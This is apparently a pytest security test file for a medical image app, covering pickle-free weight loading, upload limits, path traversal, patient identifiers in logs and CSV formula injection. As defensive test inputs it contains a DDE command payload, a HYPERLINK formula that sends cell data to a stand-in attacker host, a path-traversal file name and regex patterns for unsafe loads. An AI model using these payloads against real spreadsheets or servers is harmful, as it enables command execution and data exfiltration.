"""Security (issue #8): weights only from safetensors, size limits at the handler, generated file names,
no patient identifiers in logs. (Reader isolation and admin protection: tests/test_reader_study.py.)
"""

from __future__ import annotations

import os

os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"  # before gradio is imported

import logging  # noqa: E402
import re  # noqa: E402
import sys  # noqa: E402
import warnings  # noqa: E402
from pathlib import Path  # noqa: E402

import gradio as gr  # noqa: E402
import numpy as np  # noqa: E402
import pytest  # noqa: E402
from PIL import Image  # noqa: E402

from studio import handlers  # noqa: E402

REPO = Path(__file__).resolve().parent.parent
SOURCE_DIRS = ("models", "studio", "train", "db", "bench", "scripts")
UNSAFE_LOADS = [
    # torch.load only with weights_only=True on the same line (user model files, models.user_nets): the
    # weights-only unpickler refuses any pickle that asks for a function or a non-tensor object.
    re.compile(r"\btorch\.load\s*\((?!.*\bweights_only\s*=\s*True\b)"),
    re.compile(r"\b(c?pickle|dill|joblib|cloudpickle)\.loads?\s*\("),
    re.compile(r"\bnp\.load\s*\([^)]*allow_pickle\s*=\s*True"),
    re.compile(r"\bnumpy\.load\s*\([^)]*allow_pickle\s*=\s*True"),
]
GENERATED = re.compile(r"(medenhance_[a-z0-9_]+|upload)_[0-9a-f]{12}\.(png|dcm)")

NAME, PATIENT_ID = "Doe^Jane", "PID-12345"
IDENTIFIERS = ("Doe", "Jane", PATIENT_ID, "Elsewhere")


pytestmark = pytest.mark.usefixtures("results_dir")  # each test writes into its own empty dir


def _patient_dicom(folder: Path, name: str = "Doe_Jane_PID-12345.dcm") -> Path:
    """CT_small with a known patient name, ID and institution, saved under a name made of them."""
    import pydicom
    from pydicom.data import get_testdata_file

    ds = pydicom.dcmread(get_testdata_file("CT_small.dcm", download=False))
    ds.PatientName, ds.PatientID, ds.InstitutionName = NAME, PATIENT_ID, "St Elsewhere Hospital"
    folder.mkdir(parents=True, exist_ok=True)
    ds.save_as(folder / name)
    return folder / name


def _png(path: Path, size: int = 32) -> str:
    yy, xx = np.mgrid[0:size, 0:size]
    Image.fromarray(((xx * 7 + yy * 3) % 256).astype(np.uint8)).save(path)
    return str(path)


# --- weights only from safetensors --------------------------------------------------------------

def test_no_pickle_based_loading_anywhere() -> None:
    files = [REPO / "app.py"] + [p for d in SOURCE_DIRS for p in sorted((REPO / d).rglob("*.py"))]
    assert len(files) > 20
    hits = []
    for path in files:
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            code = line.split("#", 1)[0]
            if any(p.search(code) for p in UNSAFE_LOADS):
                hits.append(f"{path.relative_to(REPO)}:{number}: {line.strip()}")
    assert not hits, "pickle-based loading (arbitrary code execution on a crafted file):\n" + "\n".join(hits)
    pickled = [p.name for p in (REPO / "models" / "weights").iterdir()
               if p.suffix in (".pt", ".pth", ".pkl", ".pickle", ".ckpt", ".bin", ".joblib", ".npy", ".npz")]
    assert not pickled, f"weights must be safetensors: {pickled}"


# --- upload size and pixel limits ---------------------------------------------------------------

def test_over_limit_uploads_are_refused_with_a_clear_message(tmp_path: Path, monkeypatch) -> None:
    src = _png(tmp_path / "scan.png", 100)
    monkeypatch.setenv("MEDENHANCE_MAX_FILE_BYTES", "100")
    with pytest.raises(gr.Error) as info:
        handlers.enhance_file(src, "Denoise", "gaussian")
    assert "MiB limit" in info.value.message and "MEDENHANCE_MAX_FILE_BYTES" in info.value.message
    monkeypatch.delenv("MEDENHANCE_MAX_FILE_BYTES")
    monkeypatch.setenv("MEDENHANCE_MAX_PIXELS", "5000")
    with pytest.raises(gr.Error) as info:
        handlers.enhance_file(src, "Denoise", "gaussian")
    assert "100x100 = 10,000 pixels" in info.value.message and "limit of 5,000" in info.value.message
    monkeypatch.delenv("MEDENHANCE_MAX_PIXELS")
    monkeypatch.setattr(sys.modules["models.enhance"], "MAX_OUTPUT_PIXELS", 100_000)
    with pytest.raises(gr.Error) as info:
        handlers.enhance_file(src, "Super-resolution x4", "bicubic_x4")  # 400 x 400 = 160,000 output pixels
    assert "would produce 160,000 pixels" in info.value.message and info.value.title == "Unsupported image"


# --- generated names only -----------------------------------------------------------------------

def test_outputs_have_generated_names_whatever_the_upload_is_called(tmp_path: Path) -> None:
    weird = tmp_path / "a" / "b"
    weird.mkdir(parents=True)
    uploads = [
        _patient_dicom(tmp_path / "x", "..Doe_Jane_PID-12345 résumé.dcm"),
        Path(_png(weird / "..\\..\\etc\\passwd.png")),
        Path(_png(weird / "Doe^Jane\n%s.png")),
    ]
    # A path that climbs out of a folder, as a hostile client might send it.
    traversal = weird / ".." / ".." / "x" / "..Doe_Jane_PID-12345 résumé.dcm"
    for upload in [*uploads, traversal]:
        r = handlers.enhance_upload(str(upload), "Super-resolution x2", "bicubic_x2")
        for out in filter(None, (r.png_path, r.dicom_path)):
            out = Path(out)
            assert GENERATED.fullmatch(out.name), out.name
            assert out.resolve().parent == handlers.results._RESULTS_DIR.resolve()
    stored = [p.name for p in handlers.results._RESULTS_DIR.iterdir()]
    assert stored and all(GENERATED.fullmatch(n) for n in stored), stored  # incl. de-identified copies
    assert not any(word in n for n in stored for word in IDENTIFIERS + ("passwd", "etc"))


# --- no identifiers in logs ---------------------------------------------------------------------

def test_no_patient_identifiers_in_logs_or_warnings(tmp_path: Path, monkeypatch, caplog) -> None:
    dicom = _patient_dicom(tmp_path / "Doe_Jane")
    truncated = tmp_path / "Doe_Jane" / "Doe_Jane_PID-12345_cut.dcm"
    truncated.write_bytes(dicom.read_bytes()[:20_000])
    tiff = tmp_path / "Doe_Jane" / "Doe_Jane_PID-12345.tif"
    Image.fromarray(np.arange(64, dtype=np.uint8).reshape(8, 8)).save(
        tiff, tiffinfo={270: f"{NAME} {PATIENT_ID}", 269: "St Elsewhere"})  # ImageDescription, DocumentName
    caplog.set_level(logging.DEBUG)  # every logger, every level
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        handlers.enhance_file(str(dicom), "Super-resolution x2", "bicubic_x2")  # success
        handlers.header_panel(str(dicom))
        handlers.enhance_file(str(tiff), "Denoise", "gaussian")
        with pytest.raises(gr.Error):
            handlers.enhance_file(str(truncated), "Super-resolution x2", "bicubic_x2")  # refusal

        def boom(*_a, **_k):
            raise RuntimeError(f"kaputt on {tiff}")  # the path (with the patient name) in an exception

        monkeypatch.setattr(handlers.enhance, "enhance", boom)
        with pytest.raises(gr.Error):
            handlers.enhance_file(str(tiff), "Denoise", "gaussian")  # internal error, logged with a traceback
    logged = caplog.text + "\n".join(str(w.message) for w in caught)
    assert "internal error ref=" in caplog.text and "kaputt" in caplog.text  # the logs are not just empty
    leaks = [word for word in IDENTIFIERS if word in logged]
    assert not leaks, f"identifiers {leaks} in logs:\n{logged[-3000:]}"


# --- formula injection in every CSV export (issue 36) -----------------------------------------------

def _no_formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula (plain numbers such as -1.5 are numbers, not formulas)."""
    from models.csvsafe import FORMULA_START, needs_quote

    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START) and needs_quote(cell)]


def test_csv_cells_are_neutralised_but_numbers_stay_numbers() -> None:
    import pandas as pd

    from models.csvsafe import safe_cell, safe_frame

    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1", "\r=1", "-A1", "+inf", "=HYPERLINK(\"x\")"):
        assert safe_cell(text) == "'" + text
    for value in (-1, -2.5, 3, "-1.5", "+2", "-3e-05", ".5", "text", "", "a=b", "1-2", None):
        assert safe_cell(value) == value
    frame = pd.DataFrame({"model": ["=cmd|' /C calc'!A0", "edsr_x2"], "psnr": [-1.25, 30.0],
                          "note": [None, "@evil"]})
    text = safe_frame(frame).to_csv(index=False)
    import csv
    import io

    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][:2] == ["'=cmd|' /C calc'!A0", "-1.25"] and rows[2][2] == "'@evil"
    assert not _no_formula_cells(rows)
    assert frame.loc[0, "model"].startswith("=")  # the caller's frame is untouched


def test_reader_comment_is_text_in_answers_csv_and_the_analysis_tables(tmp_path: Path) -> None:
    import csv

    from studio import study
    from studio.stats import analysis
    from studio.study import reading
    from studio.study.store import StudySettings, open_store

    store = open_store(StudySettings(data_dir=tmp_path / "data", admin_password="pw"))
    comments = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1)", "+1-1", "-2+3", "\tx"]
    try:
        created = study.create_study(store, study.StudyDesign(name="=cmd|' /C calc'!A0", design="both",
                                                              models=("clahe",), readers=1, seed=1),
                                     [_png(tmp_path / f"c{i}.png") for i in range(2)])
        code = created.codes["R01"]
        i = 0
        while (view := reading.next_item(store, code)).status == "item":
            if view.kind == "likert":
                reading.submit_rating(store, code, view.item_key, {c: 3 for c in reading.CRITERIA},
                                      comments[i % len(comments)])
            else:
                reading.submit_preference(store, code, view.item_key, "left", 3, comments[i % len(comments)])
            i += 1
        res = analysis.write_outputs(store.db, created.study_id, tmp_path / "out", n_boot=100)
    finally:
        store.close()
    with open(tmp_path / "out" / "answers.csv", newline="", encoding="utf-8") as f:
        answers = list(csv.DictReader(f))
    assert answers and "'=1+1" in {a["comment"] for a in answers}
    assert {a["study_name"] for a in answers} == {"'=cmd|' /C calc'!A0"}
    for path in [p for p in res["files"] if p.suffix == ".csv"]:
        with open(path, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        assert not _no_formula_cells(rows), path.name


def test_compare_metrics_csv_is_neutralised(tmp_path: Path) -> None:
    import csv
    import io
    import zipfile

    from studio import compare
    from studio.compare import report

    *_, run_id = compare.compare_file(_png(tmp_path / "in.png", 48), 0, "default", ["lanczos_x2"], "simulate",
                                      None, "down_x2", 0)
    run = compare.get_run(run_id)
    run.notes["lanczos_x2"] = '=HYPERLINK("http://evil.example","click")'
    out = tmp_path / "zips"
    out.mkdir()
    with zipfile.ZipFile(report.write_zip(run, out, 8, "report")) as z:
        rows = list(csv.reader(io.StringIO(z.read("metrics.csv").decode())))
    assert '\'=HYPERLINK("http://evil.example","click")' in rows[2]
    assert not _no_formula_cells(rows)
    assert float(rows[1][2]) > 0  # numbers are still numbers


def test_batch_report_neutralises_formula_file_names(tmp_path):
    """The batch CLI's report CSV follows the same rule: a file named '=cmd()' is written as text."""
    import csv as _csv

    from models.batch import BatchItem, write_report

    item = BatchItem(input='=HYPERLINK("http://x")', output="out.png", status="error", message="@SUM(A1)")
    path = write_report([item], tmp_path / "r.csv")
    row = next(_csv.DictReader(path.open()))
    assert all(not v.startswith(("=", "+", "@")) for v in row.values())
